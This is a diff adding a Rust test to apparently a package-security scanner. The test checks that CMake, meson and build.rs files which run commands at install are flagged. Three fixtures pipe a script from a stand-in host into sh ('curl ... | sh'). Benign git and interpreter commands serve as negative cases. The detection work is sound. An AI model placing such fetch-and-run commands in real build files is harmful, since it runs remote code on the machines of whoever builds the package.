@@ -371,3 +371,40 @@ fn cython_and_c_extension_sources_are_read_for_load_time_code() {
     ]);
     assert!(worst_any(&good).is_none_or(|s| s < Severity::Medium));
 }
+
+/// The commands of the build files an sdist's build runs (CMake's `execute_process`, meson's
+/// `run_command`, Cargo's `build.rs`) are install-time code (tester t14 bd09-bd11, t21
+/// maturinpkg); the commands real projects run there (`git describe`, the interpreter asked
+/// for a path, a compiler) stay below medium.
+#[test]
+fn build_file_commands_run_at_install() {
+    let pyproject = "[build-system]\nrequires = [\"scikit-build-core\"]\nbuild-backend = \"scikit_build_core.build\"\n";
+    for (name, text) in [
+        ("CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(x)\nexecute_process(COMMAND sh -c \"curl -s https://x.example.invalid/i.sh | sh\")\n"),
+        ("meson.build", "project('x', 'c')\nrun_command('sh', '-c', 'curl -s https://x.example.invalid/i.sh | sh', check: false)\n"),
+        ("build.rs", "fn main() {\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x.example.invalid/i.sh | sh\").status().unwrap();\n}\n"),
+    ] {
+        let data = sdist(&[M::File("pyproject.toml", pyproject), M::File(name, text)]);
+        assert_eq!(
+            worst(&data, "python-shell-command"),
+            Some(Severity::High),
+            "{name}"
+        );
+    }
+    for (name, text) in [
+        ("CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(x)\nexecute_process(COMMAND \"${Python_EXECUTABLE}\" -c \"import pybind11; print(pybind11.get_cmake_dir())\" OUTPUT_VARIABLE d OUTPUT_STRIP_TRAILING_WHITESPACE)\nexecute_process(COMMAND git describe --tags WORKING_DIRECTORY ${CMAKE_SOURCE_DIR} OUTPUT_VARIABLE v)\nadd_custom_command(OUTPUT gen.c COMMAND ${Python_EXECUTABLE} ${CMAKE_SOURCE_DIR}/gen.py gen.c DEPENDS gen.py)\n"),
+        ("meson.build", "project('x', 'c')\nversion = run_command('git', 'describe', '--tags', check: false).stdout().strip()\npy = import('python').find_installation()\ncustom_target('gen', output: 'gen.c', command: [py, files('gen.py'), '@OUTPUT@'])\n"),
+        ("build.rs", "fn main() {\n    let out = std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().unwrap();\n    println!(\"cargo:rustc-env=GIT_HASH={}\", String::from_utf8_lossy(&out.stdout));\n}\n"),
+    ] {
+        let data = sdist(&[M::File("pyproject.toml", pyproject), M::File(name, text)]);
+        assert!(
+            worst_any(&data).is_none_or(|s| s < Severity::Medium),
+            "{name}: {:?}",
+            scan(&data)
+                .findings
+                .iter()
+                .map(|f| (f.rule.id, f.severity, f.evidence.clone()))
+                .collect::<Vec<_>>()
+        );
+    }
+}
